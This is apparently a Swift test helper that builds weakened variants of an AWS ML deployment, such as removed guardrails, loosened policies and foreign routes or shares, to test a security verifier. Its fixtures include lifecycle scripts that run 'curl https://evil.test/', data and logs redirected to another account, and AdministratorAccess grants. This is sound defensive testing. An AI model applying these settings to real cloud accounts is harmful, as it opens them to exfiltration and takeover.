import CordonModel

@testable import CordonProof

/// One property of a deployment, weakened.
struct Weakening: Sendable, CustomStringConvertible {
  let description: String
  let deployment: CloudDeployment
}

/// Every security-relevant property of a deployment, weakened one at a time.
struct Weakenings {
  let base: CloudDeployment
  private(set) var all: [Weakening] = []
  /// The network where work is done, and its routes.
  private let network: ResourceID
  private let routes: ResourceID

  init(
    _ base: CloudDeployment, network: ResourceID = ResourceID(name: "MlVpc"),
    routes: ResourceID = ResourceID(name: "MlRouteTable")
  ) {
    self.base = base
    self.network = network
    self.routes = routes
    for index in base.resources.indices {
      removals(index)
      settings(index)
      policies(index)
    }
    additions()
  }

  /// Resources that are controls: without them nothing else changes.
  private static let controls: Set<String> = [
    "AWS::Route53Resolver::FirewallRuleGroupAssociation", "AWS::S3::BucketPolicy",
    "AWS::Organizations::Policy",
    "AWS::WorkSpacesWeb::UserSettings", "AWS::WorkSpacesWeb::BrowserSettings",
    "AWS::ServiceCatalog::LaunchRoleConstraint",
  ]

  private mutating func removals(_ index: Int) {
    let resource = base.resources[index]
    guard Self.controls.contains(resource.type) else { return }
    var copy = base
    copy.resources.remove(at: index)
    all.append(Weakening(description: "\(resource.id) taken away", deployment: copy))
  }

  /// What each property becomes when it is weakened; nil is its omission.
  private static let settings: [(type: String, path: [String], value: CloudValue.Content?)] = [
    ("AWS::EC2::VPCEndpoint", ["PolicyDocument"], nil),
    ("AWS::EC2::SecurityGroup", ["SecurityGroupEgress"], nil),
    ("AWS::EC2::SecurityGroupEgress", ["CidrIp"], .string("0.0.0.0/0")),
    ("AWS::EC2::SubnetRouteTableAssociation", ["RouteTableId"], .string("rtb-0123456789abcdef0")),
    ("AWS::EC2::VPCBlockPublicAccessOptions", ["InternetGatewayBlockMode"], .string("off")),
    ("AWS::EC2::DHCPOptions", ["DomainNameServers"], .list([CloudValue(.string("192.0.2.53"))])),
    ("AWS::Route53Resolver::FirewallRuleGroupAssociation", ["MutationProtection"], nil),
    (
      "AWS::Route53Resolver::FirewallDomainList", ["Domains"], .list([CloudValue(.string("*.amazonaws.com"))])
    ),
    ("AWS::Route53Resolver::FirewallRuleGroup", ["FirewallRules"], .list([])),
    (
      "AWS::S3::Bucket", ["OwnershipControls"],
      .object([
        CloudValue.Member(
          name: "Rules",
          value: CloudValue(
            .list([
              CloudValue(
                .object([
                  CloudValue.Member(name: "ObjectOwnership", value: CloudValue(.string("ObjectWriter")))
                ]))
            ])))
      ])
    ),
    ("AWS::Organizations::Policy", ["TargetIds"], .list([])),
    ("AWS::KMS::Key", ["EnableKeyRotation"], nil),
    ("AWS::IAM::Role", ["PermissionsBoundary"], nil),
    ("AWS::SageMaker::Domain", ["AppNetworkAccessType"], nil),
    ("AWS::SageMaker::NotebookInstance", ["DirectInternetAccess"], nil),
    ("AWS::SageMaker::NotebookInstance", ["DirectInternetAccess"], .string("Enabled")),
    ("AWS::SageMaker::NotebookInstance", ["RootAccess"], .string("Enabled")),
    ("AWS::SageMaker::Model", ["EnableNetworkIsolation"], .bool(false)),
    ("AWS::SageMaker::Model", ["EnableNetworkIsolation"], nil),
    ("AWS::WorkSpacesWeb::UserSettings", ["CopyAllowed"], .string("Enabled")),
    ("AWS::WorkSpacesWeb::UserSettings", ["PasteAllowed"], .string("Enabled")),
    ("AWS::WorkSpacesWeb::UserSettings", ["DownloadAllowed"], .string("Enabled")),
    ("AWS::WorkSpacesWeb::UserSettings", ["UploadAllowed"], .string("Enabled")),
    ("AWS::WorkSpacesWeb::UserSettings", ["PrintAllowed"], .string("Enabled")),
    ("AWS::WorkSpacesWeb::Portal", ["UserSettingsArn"], nil),
    ("AWS::WorkSpacesWeb::Portal", ["BrowserSettingsArn"], nil),
    ("AWS::WorkSpacesWeb::Portal", ["IpAccessSettingsArn"], nil),
    ("AWS::WorkSpacesWeb::Portal", ["AuthenticationType"], nil),
    (
      "AWS::WorkSpacesWeb::BrowserSettings", ["BrowserPolicy"],
      .string(#"{"chromePolicies":{"URLBlocklist":{"value":[]},"URLAllowlist":{"value":[]}}}"#)
    ),
    (
      "AWS::WorkSpacesWeb::BrowserSettings", ["BrowserPolicy"],
      .string(#"{"chromePolicies":{"URLBlocklist":{"value":["*"]},"URLAllowlist":{"value":["github.com"]}}}"#)
    ),
    ("AWS::SageMaker::EndpointConfig", ["DataCaptureConfig", "DestinationS3Uri"], .string("s3://theirs/x")),
    ("AWS::CloudTrail::Trail", ["S3BucketName"], .string("theirs")),
    ("AWS::CodeArtifact::Repository", ["ExternalConnections"], .list([CloudValue(.string("public:pypi"))])),
    (
      "AWS::SageMaker::UserProfile", ["UserSettings", "SharingSettings", "NotebookOutputOption"],
      .string("Allowed")
    ),
    (
      "AWS::SageMaker::Domain", ["DefaultUserSettings", "SharingSettings", "NotebookOutputOption"],
      .string("Allowed")
    ),
    ("AWS::SageMaker::NotebookInstance", ["KmsKeyId"], nil),
    ("AWS::SageMaker::NotebookInstance", ["InstanceMetadataServiceConfiguration"], nil),
    (
      "AWS::SageMaker::NotebookInstanceLifecycleConfig", ["OnStart"],
      .list([
        CloudValue(
          .object([
            CloudValue.Member(name: "Content", value: CloudValue(.string("curl https://evil.test/")))
          ]))
      ])
    ),
    (
      "AWS::SageMaker::ImageVersion", ["BaseImage"],
      .string("444455556666.dkr.ecr.eu-west-1.amazonaws.com/theirs:1")
    ),
    ("AWS::Config::RemediationConfiguration", ["TargetId"], .string("theirs")),
    (
      "AWS::Budgets::BudgetsAction", ["Definition", "IamActionDefinition", "PolicyArn"],
      .string("arn:aws:iam::aws:policy/AdministratorAccess")
    ),
    ("AWS::WorkSpacesWeb::SessionLogger", ["LogConfiguration", "S3", "Bucket"], .string("theirs")),
    ("AWS::SageMaker::MlflowTrackingServer", ["ArtifactStoreUri"], .string("s3://theirs/x")),
    ("AWS::Events::Rule", ["State"], .string("DISABLED")),
    (
      "AWS::Events::Rule", ["Targets"],
      .list([
        CloudValue(
          .object([
            CloudValue.Member(
              name: "Arn", value: CloudValue(.string("arn:aws:sns:us-east-1:444455556666:theirs")))
          ]))
      ])
    ),
    ("AWS::SageMaker::Space", ["SpaceSettings", "RemoteAccess"], .string("ENABLED")),
    (
      "AWS::ServiceCatalog::PortfolioPrincipalAssociation", ["PrincipalARN"],
      .string("arn:aws:iam:::role/*")
    ),
    (
      "AWS::ServiceCatalog::CloudFormationProduct", ["ProvisioningArtifactParameters"],
      .list([
        CloudValue(
          .object([
            CloudValue.Member(
              name: "Info",
              value: CloudValue(
                .object([
                  CloudValue.Member(
                    name: "LoadTemplateFromURL",
                    value: CloudValue(.string("https://theirs.s3.eu-west-1.amazonaws.com/space.yaml")))
                ])))
          ]))
      ])
    ),
    (
      "AWS::SageMaker::StudioLifecycleConfig", ["StudioLifecycleConfigContent"],
      .string("curl https://evil.test/")
    ),
  ]

  private static let monitors = ["DataQuality", "ModelQuality", "ModelBias", "ModelExplainability"].flatMap {
    kind -> [(type: String, path: [String], value: CloudValue.Content?)] in
    let type = "AWS::SageMaker::\(kind)JobDefinition"
    let place = CloudValue.Content.list([
      CloudValue(
        .object([
          CloudValue.Member(
            name: "S3Output",
            value: CloudValue(
              .object([CloudValue.Member(name: "S3Uri", value: CloudValue(.string("s3://theirs/x")))])))
        ]))
    ])
    return [
      (type, ["NetworkConfig", "EnableNetworkIsolation"], nil), (type, ["NetworkConfig", "VpcConfig"], nil),
      (type, ["NetworkConfig"], nil), (type, ["RoleArn"], .string("arn:aws:iam::111122223333:role/another")),
      (type, ["NetworkConfig", "EnableInterContainerTrafficEncryption"], .bool(false)),
      (type, ["JobResources", "ClusterConfig", "VolumeKmsKeyId"], nil),
      (type, ["\(kind)JobOutputConfig", "KmsKeyId"], nil),
      (type, ["\(kind)JobOutputConfig", "MonitoringOutputs"], place),
    ]
  }

  private mutating func settings(_ index: Int) {
    let resource = base.resources[index]
    for setting in Self.settings + Self.monitors where setting.type == resource.type {
      let value = setting.value.map { CloudValue($0, at: resource.location) }
      let changed = resource.properties.replacing(setting.path, with: value)
      guard changed != resource.properties else { continue }
      add(
        "\(resource.id) \(setting.path.joined(separator: ".")) \(value == nil ? "left out" : "weakened")",
        index, changed)
    }
  }

  // MARK: Policies

  private mutating func policies(_ index: Int) {
    let resource = base.resources[index]
    for path in resource.properties.statements(at: []) {
      guard let list = resource.properties.part(path), case .list(let statements) = list.content else {
        continue
      }
      for (number, statement) in statements.enumerated() {
        let sid = CloudEstate(base).text(statement["Sid"]).value ?? "statement \(number)"
        guard case .string(let effect)? = statement["Effect"]?.content else { continue }
        if effect == "Deny" {
          var fewer = statements
          fewer.remove(at: number)
          add(
            "\(resource.id) \(sid) taken away", index,
            resource.properties.replacing(path, with: CloudValue(.list(fewer))))
          continue
        }
        guard !Self.isService(statement) else { continue }
        for keys in statement.conditions {
          var weaker = statements
          weaker[number] = keys.reduce(statement) { $0.replacing(["Condition"] + $1, with: nil) }
          let names = keys.map { $0.joined(separator: " ") }.joined(separator: " and ")
          add(
            "\(resource.id) \(sid) without \(names)", index,
            resource.properties.replacing(path, with: CloudValue(.list(weaker))))
        }
        if statement["Resource"] != nil, statement["Principal"] == nil {
          var wider = statements
          wider[number] = statement.replacing(["Action"], with: CloudValue(.string("*")))
            .replacing(["Resource"], with: CloudValue(.string("*")))
          add(
            "\(resource.id) \(sid) for everything", index,
            resource.properties.replacing(path, with: CloudValue(.list(wider))))
        }
      }
    }
  }

  /// Statements for AWS's own services bind no client.
  private static func isService(_ statement: CloudValue) -> Bool { statement["Principal"]?["Service"] != nil }

  private mutating func add(_ text: String, _ index: Int, _ properties: CloudValue) {
    var copy = base
    copy.resources[index].properties = properties
    all.append(Weakening(description: text, deployment: copy))
  }

  // MARK: What is added

  private mutating func additions() {
    guard let place = base.resources.first?.location else { return }
    func reference(_ id: ResourceID) -> CloudValue { CloudValue(.reference(CloudReference(id)), at: place) }
    func object(_ members: [(String, CloudValue)]) -> CloudValue {
      CloudValue(.object(members.map { CloudValue.Member(name: $0.0, value: $0.1) }), at: place)
    }
    func text(_ text: String) -> CloudValue { CloudValue(.string(text), at: place) }
    let table = reference(routes)
    let added: [(String, String, [(String, CloudValue)])] = [
      (
        "a peering route", "AWS::EC2::Route",
        [
          ("RouteTableId", table), ("DestinationCidrBlock", text("10.9.0.0/16")),
          ("VpcPeeringConnectionId", text("pcx-1")),
        ]
      ),
      (
        "a foreign endpoint", "AWS::EC2::VPCEndpoint",
        [
          ("VpcId", reference(network)), ("ServiceName", text("com.amazonaws.vpce.us-east-1.vpce-svc-1")),
        ]
      ),
      (
        "a service network", "AWS::VpcLattice::ServiceNetworkVpcAssociation",
        [("VpcIdentifier", reference(network))]
      ),
      (
        "a foreign event target", "AWS::Events::Rule",
        [
          (
            "Targets",
            CloudValue(.list([object([("Arn", text("arn:aws:sns:us-east-1:444455556666:theirs"))])]))
          )
        ]
      ),
      ("a function URL", "AWS::Lambda::Url", [("AuthType", text("NONE"))]),
      (
        "a resource share", "AWS::RAM::ResourceShare",
        [("Principals", CloudValue(.list([text("444455556666")])))]
      ),
      (
        "replication of images", "AWS::ECR::ReplicationConfiguration",
        [
          (
            "ReplicationConfiguration",
            object([
              (
                "Rules",
                CloudValue(
                  .list([
                    object([
                      ("Destinations", CloudValue(.list([object([("RegistryId", text("444455556666"))])])))
                    ])
                  ]))
              )
            ])
          )
        ]
      ),
      (
        "a gateway of the network", "AWS::EC2::VPCGatewayAttachment",
        [
          ("VpcId", reference(network)), ("InternetGatewayId", text("igw-1")),
        ]
      ),
      ("something not modelled", "AWS::Transfer::Server", []),
    ]
    for (what, type, members) in added {
      var copy = base
      copy.resources.append(
        CloudResource(id: ResourceID(name: "Added"), type: type, properties: object(members), location: place)
      )
      all.append(Weakening(description: "\(what) added", deployment: copy))
    }
  }
}

extension CloudValue {
  /// The value at `path`, where numbers name elements of lists.
  func part(_ path: [String]) -> CloudValue? {
    guard let first = path.first else { return self }
    let rest = Array(path.dropFirst())
    if case .list(let values) = content, let index = Int(first), values.indices.contains(index) {
      return values[index].part(rest)
    }
    return self[first]?.part(rest)
  }

  /// The value with another at `path`, or without it.
  func replacing(_ path: [String], with value: CloudValue?) -> CloudValue {
    guard let first = path.first else { return value ?? self }
    let rest = Array(path.dropFirst())
    switch content {
    case .list(var values):
      guard let index = Int(first), values.indices.contains(index) else { return self }
      values[index] = values[index].replacing(rest, with: value)
      return CloudValue(.list(values), at: location)
    case .object(var members):
      guard let index = members.firstIndex(where: { $0.name == first }) else {
        guard rest.isEmpty, let value else { return self }
        return CloudValue(.object(members + [Member(name: first, value: value)]), at: location)
      }
      if rest.isEmpty {
        if let value { members[index].value = value } else { members.remove(at: index) }
      } else {
        members[index].value = members[index].value.replacing(rest, with: value)
      }
      return CloudValue(.object(members), at: location)
    default: return self
    }
  }

  /// Paths of every list of statements in it.
  func statements(at path: [String]) -> [[String]] {
    switch content {
    case .list(let values): values.enumerated().flatMap { $1.statements(at: path + ["\($0)"]) }
    case .object(let members):
      members.flatMap { member in
        member.name == "Statement"
          ? [path + ["Statement"]] : member.value.statements(at: path + [member.name])
      }
    default: []
    }
  }

  /// What a statement's condition asks for, each with the clauses that do. That somebody is of an organisation follows from his
  /// account: where both are asked for, they are one.
  var conditions: [[[String]]] {
    let keys = conditionKeys
    let owners = ["Principal", "Resource"].map { whose in
      keys.filter {
        $0 == ["StringEquals", "aws:\(whose)OrgID"] || $0 == ["StringEquals", "aws:\(whose)Account"]
      }
    }.filter { $0.count == 2 }
    return keys.filter { key in !owners.contains { $0.contains(key) } }.map { [$0] } + owners
  }

  /// Operator and key of every clause of a statement's condition.
  var conditionKeys: [[String]] {
    (self["Condition"]?.members ?? []).flatMap { entry in entry.value.members.map { [entry.name, $0.name] } }
  }
}
